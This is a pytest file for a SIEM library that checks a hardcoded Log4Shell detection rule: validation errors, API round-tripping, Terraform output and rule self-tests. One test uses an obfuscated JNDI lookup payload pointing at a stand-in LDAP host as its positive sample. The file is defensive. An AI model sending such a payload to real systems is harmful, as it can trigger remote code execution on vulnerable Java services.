"""Rules of the hardcoded method: read, answered, tested, refused at their place (siem.md §2.21)."""

from typing import Any

import pytest

from tocsin.event import Event
from tocsin.rules.shape import rule_from_api, rule_to_api
from tocsin.rules.terraform import to_terraform
from tocsin.rules.testing import run_tests
from tocsin.rules.validation import check


def body(**changes: Any) -> dict[str, Any]:
    options = {"detectionMethod": "hardcoded", "hardcodedEvaluatorType": "log4shell", **changes.pop("options", {})}
    return {
        "type": "log_detection",
        "name": "Log4Shell",
        "message": "m",
        "isEnabled": True,
        "queries": [{"query": "source:nginx", "groupByFields": ["@network.client.ip"]}],
        "cases": [{"status": "high", "condition": "a > 0"}],
        "options": {name: value for name, value in options.items() if value is not None},
        **changes,
    }


def test_it_is_taken_and_answered_as_it_was_sent() -> None:
    assert check(body()) == []
    assert check(body(options={"hardcodedEvaluatorType": None})) == []
    rule = rule_from_api(body())
    assert rule_to_api(rule)["options"] == body()["options"]
    assert 'hardcoded_evaluator_type = "log4shell"' in to_terraform(rule)


@pytest.mark.parametrize(
    ("changes", "target"),
    [
        ({"options": {"detectionMethod": "threshold"}}, "options.hardcodedEvaluatorType"),
        ({"options": {"hardcodedEvaluatorType": "heartbleed"}}, "options.hardcodedEvaluatorType"),
        (
            {"queries": [{"query": "*", "aggregation": "cardinality", "distinctFields": ["host"]}]},
            "queries[0].aggregation",
        ),
        ({"queries": [{"query": "*", "dataSource": "security_signals"}]}, "options.detectionMethod"),
        ({"cases": [{"status": "high"}]}, "cases[0].condition"),
        (
            {"schedulingOptions": {"rrule": "FREQ=DAILY", "start": "2030-01-01T00:00:00", "timezone": "UTC"}},
            "schedulingOptions",
        ),
    ],
)
def test_what_does_not_go_with_it_is_refused_at_its_place(changes: dict[str, Any], target: str) -> None:
    assert [problem.target for problem in check(body(**changes))] == [target]


def test_its_tests_look_for_what_it_looks_for() -> None:
    def to_event(payload: Any) -> Event:
        return Event("e", 0, source=payload["ddsource"], message=payload["message"], attributes={})

    hostile = {"ddsource": "nginx", "message": "${${::-j}ndi:ldap://x.test}"}
    tests = [
        {"index": 0, "expectedResult": True, "payload": hostile},
        {"index": 0, "expectedResult": False, "payload": {**hostile, "message": "GET /"}},
        {"index": 0, "expectedResult": False, "payload": {**hostile, "ddsource": "sshd"}},
    ]
    assert run_tests(rule_from_api(body()), tests, to_event) == [True, True, True]
